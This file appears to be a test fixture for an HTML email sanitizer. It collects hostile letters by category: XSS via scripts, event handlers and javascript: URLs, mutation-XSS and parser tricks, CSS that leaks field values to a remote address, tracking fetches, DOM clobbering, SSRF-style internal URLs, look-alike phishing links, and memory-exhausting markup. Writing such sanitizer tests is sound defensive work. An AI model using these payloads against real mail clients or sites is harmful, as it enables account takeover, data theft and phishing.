// Hostile letters by kind, several of each, numbered as the kinds are. `E` is an address that nobody may ask, `X` a script that nobody may run.

/** HTML by kind: each entry is a letter of its own. */
export function hostileHtml(E) {
    const X = "top.hit=1;parent.hit=1;window.hit=1;alert(1)";
    const encoded = (text) => Buffer.from(text).toString("base64");
    return {
        "scripts in every place": [`<script>${X}</script><SCRIPT SRC=${E}/1a></SCRIPT><img src=x onerror="${X}"><svg onload="${X}"><body onload="${X}" onpageshow="${X}">
            <details open ontoggle="${X}"><a href="java&#10;script:${X}" id=go>go</a><a href="&#1;javascript:${X}">go</a><a href=" JaVaScRiPt:${X}">go</a>
            <a href="data:text/html;base64,${encoded(`<script>${X}</script>`)}">go</a><iframe srcdoc="<script>${X}</script>"></iframe><iframe src="javascript:${X}"></iframe>
            <svg><use href="data:image/svg+xml;base64,${encoded(`<svg xmlns="http://www.w3.org/2000/svg" id="x"><script>${X}</script></svg>`)}#x"/></svg>
            <div><template shadowrootmode=open><script>${X}</script><img src=${E}/1b></template></div><object data="data:text/html,<script>${X}</script>"></object>
            <form action="javascript:${X}"><input autofocus onfocus="${X}"><button formaction="javascript:${X}">b</button></form><marquee onstart="${X}">m</marquee>
            <style onload="${X}">p{}</style><video onloadstart="${X}" src=${E}/1c></video><input type=image src=${E}/1d onerror="${X}">`,
        `<a href="jAvAsCrIpT&colon;${X}">c</a><a href="&#x6A;avascript:${X}">e</a><a href="\u0001javascript:${X}">c</a><a xlink:href="javascript:${X}">x</a>
            <div onclick="${X}" onpointerover="${X}" onanimationstart="${X}" ontransitionend="${X}" onbeforetoggle="${X}" onscrollend="${X}" oncontentvisibilityautostatechange="${X}">d</div>
            <style>@keyframes k{from{top:0}} div{animation:k 1ms}</style><object type="text/html" data="javascript:${X}"></object><embed src="javascript:${X}" type="text/html">
            <math href="javascript:${X}"><mi xlink:href="javascript:${X}">m</mi></math><isindex action="javascript:${X}"><frameset onload="${X}"><frame src="javascript:${X}"></frameset>`],
        "mutation": [`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${E}/2a onerror=${X}&gt;">
            <svg></p><style><a id="</style><img src=${E}/2b onerror=${X}>"><noscript><p title="</noscript><img src=${E}/2c onerror=${X}>">
            <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${X} src=${E}/2d>">
            <template><style></template><img src=${E}/2e onerror=${X}></style><svg><title><![CDATA[</title><img src=${E}/2f onerror=${X}>]]></title></svg>
            <table><tr><td><table><a href=x><table><img src=${E}/2g onerror=${X}></table>`,
        `<form><div></form><svg><style><a title="</style><img src=${E}/2h onerror=${X}>"></svg><svg><desc><table><tr><td><title><img src=${E}/2i onerror=${X}></title>
            <math><annotation-xml encoding="text/html"><style><img src=${E}/2j onerror=${X}></style></annotation-xml></math><xmp><p title="</xmp><img src=${E}/2k onerror=${X}>">
            <select><template><style><!--</style><a rel="--&gt;&lt;/style&gt;&lt;img src=${E}/2l onerror=${X}&gt;"></template></select><noembed><img title="</noembed><img src=${E}/2m onerror=${X}>"></noembed>`],
        "parser differences": [`<!--><img src=${E}/3a onerror=${X}>--><!-- --!><img src=${E}/3b onerror=${X}><![CDATA[<img src=${E}/3c>]]><im\u0000g src=${E}/3d onerror=${X}>
            <img src="${E}/3e" title='unclosed" onerror=${X} <b>x</b><p ${Array.from({ length: 10_000 }, (_, at) => `a${at}=1`).join(" ")} onclick=${X}>many</p>
            <meta charset=utf-7>+ADw-script+AD4-${X}+ADw-/script+AD4-<plaintext><img src=${E}/3f onerror=${X}>`,
        `<?xml version="1.0"?><?php echo "<img src=${E}/3g>"?><!DOCTYPE html [<!ENTITY x "<script>${X}</script>">]>&x;<!--[if mso]><img src=${E}/3h onerror=${X}><![endif]-->
            <img\fsrc=${E}/3i\fonerror=${X}><img/src=${E}/3j/onerror=${X}><<img src=${E}/3k onerror=${X}>><p title="a\u0000" onclick=${X}>\u0000</p><a href="http:\\\\x" "onclick=${X}">q</a>
            <textarea><img title="</textarea><img src=${E}/3l onerror=${X}>">`],
        "changed after cleaning": [`<div class="row open" id="page" data-x="1" data-trusted=1><img src="cid:nobody"><img src="CID:%0Ajavascript:${X}"><img src="cid:../../session">
            <a href="#page">jump</a>&lt;img src=${E}/4a onerror=${X}&gt; needle &lt;mark&gt;<mark>needle</mark></div>`,
        `<div class="letter-frame composer notices dialog" id="letter-page" data-reactroot aria-hidden=true role=dialog><style>#page,.composer{background:url(${E}/4b)}</style>
            <img src="cid:x' onerror='${X}"><img src="cid:%22%3E%3Cscript%3E${X}%3C/script%3E"><p title="${E}/4c">www.a.test/"onmouseover="${X}</p>needle &amp;lt;img src=${E}/4d onerror=${X}&amp;gt;</div>`],
        "animation": [`<svg><a><animate attributeName=href values="javascript:${X}" begin=0s onbegin="${X}" onrepeat="${X}"/><text>t</text></a>
            <image><set attributeName=href to="${E}/5a"/></image><animateTransform onbegin="${X}" attributeName=transform /><animate attributeName=style values="background:url(${E}/5b)"/></svg>`,
        `<svg><rect><set attributeName=onmouseover to="${X}" begin=0s /><animate attributeName=fill values="url(${E}/5c#a);url(${E}/5d#a)" dur=1ms repeatCount=2 onend="${X}"/></rect>
            <use><animate attributeName=href from="${E}/5e#a" to="${E}/5f#a" dur=1s begin="click"/></use></svg><style>@keyframes k{to{background:url(${E}/5g)}}p{animation:k 1ms}</style><p>k</p>`],
        "pictures by other names": [`<image src=${E}/6a><input type=image src=${E}/6b><video poster=${E}/6c><source src=${E}/6d><track src=${E}/6e default></video><audio src=${E}/6f autoplay></audio>
            <body background=${E}/6g><table background=${E}/6h><tr><td background=${E}/6i>x</td></tr></table><img srcset="data:image/png;base64,aa,b 1x, ${E}/6j 2x"><object data=${E}/6k></object>
            <embed src=${E}/6l><img src=//${E.slice(7)}/6m><img src=${E}/6n><img src=" \n${E}/6o"><picture><source srcset=${E}/6p><img></picture><img lowsrc=${E}/6q dynsrc=${E}/6r>`,
        `<img src="${E}/6s" srcset="${E}/6t 2x" sizes=1px longdesc=${E}/6u usemap=#m><map name=m><area href="${E}/6v" shape=default></map><link rel=icon href=${E}/6w>
            <frame src=${E}/6x><applet code=${E}/6y archive=${E}/6z></applet><bgsound src=${E}/6A><layer src=${E}/6B></layer><img src="\\\\${E.slice(7)}\\6C"><img src="/\\${E.slice(7)}/6D">`],
        "SVG that fetches": [`<svg width=9 height=9><filter id=f><feImage href="${E}/7a"/></filter><rect width=9 height=9 fill="url(${E}/7b#x)" filter="url(${E}/7c#x)" mask="u\\72l(${E}/7d)"
            style="marker:url(${E}/7e#m);cursor:url(${E}/7f),auto"/><use href="${E}/7g#x"/><image href="${E}/7h"/><style>rect{fill:\\75rl(${E}/7i#x)}</style></svg>`,
        `<svg><style>@import "${E}/7j";</style><a xlink:href="${E}/7k"><image xlink:href="${E}/7l"/></a><pattern href="${E}/7m#p"/><linearGradient href="${E}/7n#g"/><textPath href="${E}/7o#t"/>
            <script href="${E}/7p"></script><foreignObject><iframe src="${E}/7q"></iframe><img src="${E}/7r"></foreignObject><font-face><font-face-src><font-face-uri href="${E}/7s"/></font-face-src></font-face></svg>`],
        "CSS that fetches": [`<style>@import "${E}/8a"; @import url(${E}/8b); @font-face{font-family:f;src:url(${E}/8c)} @namespace x "${E}/8d";
            p{background:u\\72l(${E}/8e);background-image:image-set("${E}/8f" 1x);font-family:f;--u:url(${E}/8g);list-style:url(${E}/8h);cursor:url(${E}/8i),auto;border-image:url(${E}/8j) 1;
            content:url(${E}/8k);mask:url(${E}/8l);& b{background:url(${E}/8m)}} @media all{p{background:url('${E}/8n')}} @supports (a:b){p{background:url(${E}/8o)}}</style>
            <p style="background:var(--u);background-image:URL( ${E}/8p )">p <b style='background:url("${E}/8q")'>b</b></p><link rel=stylesheet href=${E}/8r><p style="background:url(&quot;${E}/8s&quot;)">`,
        `<style>p{background:image(ltr "${E}/8t");background:cross-fade(url(${E}/8u),url(${E}/8v));background:-webkit-image-set(url(${E}/8w) 1x);src:url(${E}/8x);shape-outside:url(${E}/8y);offset-path:url(${E}/8z)}
            @layer a{p{background:url(${E}/8A)}} @container (width>1px){p{background:url(${E}/8B)}} @scope(p){:scope{background:url(${E}/8C)}} @property --x{syntax:"<url>";inherits:true;initial-value:url(${E}/8D)}
            @page{background:url(${E}/8E)} p::before{content:url(${E}/8F)} :is(p){background:src("${E}/8G")} @starting-style{p{background:url(${E}/8H)}}</style><p>c</p><style media="x" type="text/css">p{background:\\55 RL(${E}/8I)}</style>`],
        "quiet fetches": [`<link rel=dns-prefetch href=${E}><link rel=preconnect href=${E}><link rel=preload as=image href=${E}/9a><link rel=prefetch href=${E}/9b><link rel=modulepreload href=${E}/9c>
            <link rel=manifest href=${E}/9d><link rel="shortcut icon" href=${E}/9e><link rel=prerender href=${E}/9f><meta http-equiv=refresh content="0;url=${E}/9g"><base href="${E}/"><img src=9h>`,
        `<meta http-equiv=Link content="<${E}/9i>;rel=preload;as=image"><meta http-equiv=Set-Cookie content="__Host-tegami=x"><meta http-equiv=Content-Security-Policy content="img-src *">
            <meta http-equiv=x-dns-prefetch-control content=on><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${E}/9j"]}]}</script><a ping="${E}/9k" href="#x">p</a>
            <a href="${E}/9l" download attributionsrc="${E}/9m">d</a><img attributionsrc="${E}/9n" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><body manifest=${E}/9o><html manifest=${E}/9p>`],
        "CSS out of the box": [`<style>:root,html,body{position:fixed!important;inset:0!important;width:9999px!important;height:9999px!important;z-index:2147483647!important;zoom:40!important;display:block!important}
            :host{position:fixed!important} .paper{position:fixed!important;top:-500px!important;transform:scale(99)!important;margin:-900px!important}</style><div style="position:fixed;inset:0;z-index:99;background:#f00">over</div>
            <div style="position:sticky;top:-900px;margin-top:-5000px;margin-left:-5000px;width:99999px;height:99999999px;transform:translate(-900px)">big</div>`,
        `<body style="height:100vh;min-height:calc(100% + 50px);margin:100vh;padding:10vmin"><style>html{height:100%;min-height:100svh} body{height:calc(100% + 9px);min-height:120%} *{min-height:101%;height:100dvh;box-sizing:border-box}
            div{height:101%;width:101%;padding:100%;font-size:99999px;line-height:99;letter-spacing:9999px;word-spacing:-9999px;text-indent:-9999px;writing-mode:vertical-rl}</style><div><div><div>grows</div></div></div>`],
        "CSS that reads": [`<style>input[value^="s"]{background:url(${E}/11a)} :has([data-secret^="s"]){background:url(${E}/11b)} a:visited{background:url(${E}/11c)} p::first-letter{background:url(${E}/11d)}
            @font-face{font-family:s;src:url(${E}/11e);unicode-range:U+73} p{font-family:s} ::-webkit-scrollbar{background:url(${E}/11f)} [data-secret]{background:attr(data-secret type(<url>));--x:if(style(--s:1):url(${E}/11g));width:if(media(print):url(${E}/11h);else:1px)}
            @supports selector(:has(a)){p{background:url(${E}/11i)}}</style><input value=secret><p data-secret=secret>secret</p>`,
        `<style>body:has(a[href*="s"]) p{list-style:url(${E}/11j)} @container style(--s: secret){p{background:url(${E}/11k)}} p:lang(en){cursor:url(${E}/11l),auto} :target{background:url(${E}/11m)} input:not([value="x"])~p{border-image-source:url(${E}/11n)}
            @media (prefers-color-scheme:dark){p{background:url(${E}/11o)}} @media (min-width:1px) and (resolution>0dppx){p{background:url(${E}/11p)}} @counter-style s{symbols:url(${E}/11q)} ::highlight(x){background:url(${E}/11r)}</style><p id=s>secret</p>`],
        "CSS smuggled": [`<table background="x;position:fixed"><tr><td bgcolor="red;position:fixed;inset:0;background:url(${E}/12a)" background='"><img src=${E}/12b onerror=${X}>'>t</td></tr></table>
            <font color="red;position:fixed" face="x&quot;;background:url(${E}/12c)">f</font><p style="color:red&quot;;background:url(${E}/12d)">q</p><p style="color:red/*">a</p><p style="*/;background:url(${E}/12e)">b</p>
            <p style="font-family:'x;background:url(${E}/12f)">s</p><p style="color:red}p{background:url(${E}/12g)}">r</p>`,
        `<style>p{color:red</style><style>;background:url(${E}/12h)}</style><style>a{content:"</style><style>";background:url(${E}/12i)}p{background:url(${E}/12j)}</style><style>/*</style><style>*/p{background:url(${E}/12k)}</style>
            <style><!-- p{background:url(${E}/12l)} --></style><style>p{color:red\\;background:url(${E}/12m)}\\</style><body bgcolor="red;position:fixed;background:url(${E}/12n)" style="background&#58;url(${E}/12o)"><p style="back\\67round:url(${E}/12p);&#98;ackground:\\000075rl(${E}/12q)">p</p>`],
        "pressing our buttons": [`<label for=page>all of it</label><a accesskey=c href=x>c</a><button accesskey=s autofocus popovertarget=page popovertargetaction=show command=show-modal commandfor=page>b</button>
            <input autofocus type=password name=password autocomplete=current-password><input name=username autocomplete=username><dialog open>Sign in</dialog><div contenteditable autofocus tabindex=1 inert>edit</div>
            <form action=/session method=post id=f><input type=submit value=go></form><input form=f formaction=${E}/13a type=image src=${E}/13b><details open name=x><summary accesskey=z tabindex=0>d</summary></details>`,
        `<style>:focus{background:url(${E}/13c)}</style><a href="#page" tabindex=-1 autofocus accesskey="#">h</a><iframe src="/mail/" name=top></iframe><select autofocus size=2><option onclick="${X}">o</option></select>
            <textarea autofocus form=page>t</textarea><div popover=auto id=pop>p</div><fieldset form=page disabled><keygen><output for=page>o</output></fieldset><map><area accesskey=x href="/session" target=_self></map><marquee>m</marquee>`],
        "clobbering": [`<form id=body name=body><input name=attributes><input name=parentNode><input name=nodeName><input name=removeAttribute><input name=childNodes><input name=ownerDocument></form>
            <img name=createElement><img name=documentElement><img name=head><img id=document><a id=location href="${E}/14a">l</a><a id=location name=href href="${E}/14b">m</a><iframe name=parent></iframe><object id=top></object>`,
        `<a id=defaultView name=x href=x>a</a><a id=defaultView name=y href=y>b</a><img name=querySelector><img name=getElementById><img name=implementation><img name=importNode><form name=cookie><input id=__proto__ name=constructor></form>
            <img id=tegami name=trustedTypes><form id=page name=page><output name=innerHTML>x</output></form><p id=__proto__>p</p><p id="letter-page">q</p><embed name=forms><img name=currentScript>`],
        "leaving the frame": [`<a target=_top href="https://away.test/">t</a><a target=_parent href="https://away.test/">p</a><a target=main rel=opener href="about:blank#20">m</a><a target=_self href="https://away.test/">s</a><base target=_top><a href="#page">i</a><a href="">e</a>
            <a href="/mail/?compose=new" target=_top>c</a><a href="/session">s</a><a href="blob:https://away.test/x">b</a><form target=_top action="https://away.test/"><button>f</button></form>`,
        `<a href="//away.test/">r</a><a href="..">u</a><a href="?q=x">q</a><a href="view-source:https://away.test/">v</a><a href="filesystem:https://away.test/x">y</a><a href="intent://away.test#Intent;end">i</a><a href="ms-word:ofe|u|https://away.test/">w</a><a href="tel:1">t</a><a href="file:///etc/passwd">f</a>`],
        "lying": [`<a href="https://evil.test/login">www.bank.test</a><a href="https://bаnk.test/">https://bank.test/</a><a href="https://www.bank.test/x">bank.test</a><p>\u202egpj.exe\u202c</p>
            <div class=blocked><button class=link>Show pictures</button></div><form class=sign-in><input name=password type=password><button class=primary>Sign in</button></form>`,
        `<style>body,p,div{display:none;visibility:hidden;opacity:0;font-size:0;color:#fff;background:#fff}</style><body style="display:none"><p>what it hides</p></body>`],
        "our proxy": [`<img src=http://127.0.0.1:1/22a><img src=http://[::1]/22b><img src=http://10.0.0.1/22c><img src="http://[::ffff:7f00:1]/22d"><img src=http://2130706433/22e><img src=http://0x7f000001/22f><img src=http://localhost./22g>
            <img src="http://user:pass@a.test/22h"><img src="https://a.test/22i?url=https://b.test/"><p style="background:url(${E}/22j)">p</p><img src="${E}/22k&email=M1"><img src="/picture?url=${E}/22l&email=M1">`,
        `<img src="${E}/22m#&quot;onerror=${X}"><img src="${E}/\u0000\r\nHost: x"><img src="gopher://127.0.0.1/"><img src="http:${E.slice(5)}/22n"><img src="HTTP://a.test:22/22o"><img src="${E}/${"x".repeat(5_000)}"><table background="${E}/22p"><tr><td>t`],
    };
}

/** HTML that is meant to take all time and memory. */
export const EXHAUSTING = [
    `${"<table><tr><td>".repeat(30_000)}deep`, `<p>${"<b>x</b>".repeat(50_000)}</p>`, `${"<div style='padding:1px'>".repeat(20_000)}deep<style>${"div ".repeat(500)}{color:red}${"*{color:blue}".repeat(9_000)}</style>`,
    `<img src="data:image/png;base64,${"A".repeat(450_000)}"><style>${"p{".repeat(50_000)}</style><style>p{width:${"calc(".repeat(20_000)}1px}</style>`, `${"<blockquote>".repeat(200)}${"quoted<br>".repeat(10_000)}`,
    `<style media="${"(".repeat(60_000)}">p{}</style><picture><source media="${"not (".repeat(60_000)}" srcset=x></picture>media`, `<style>@supports ${":is(".repeat(50_000)}{}</style>selectors`];
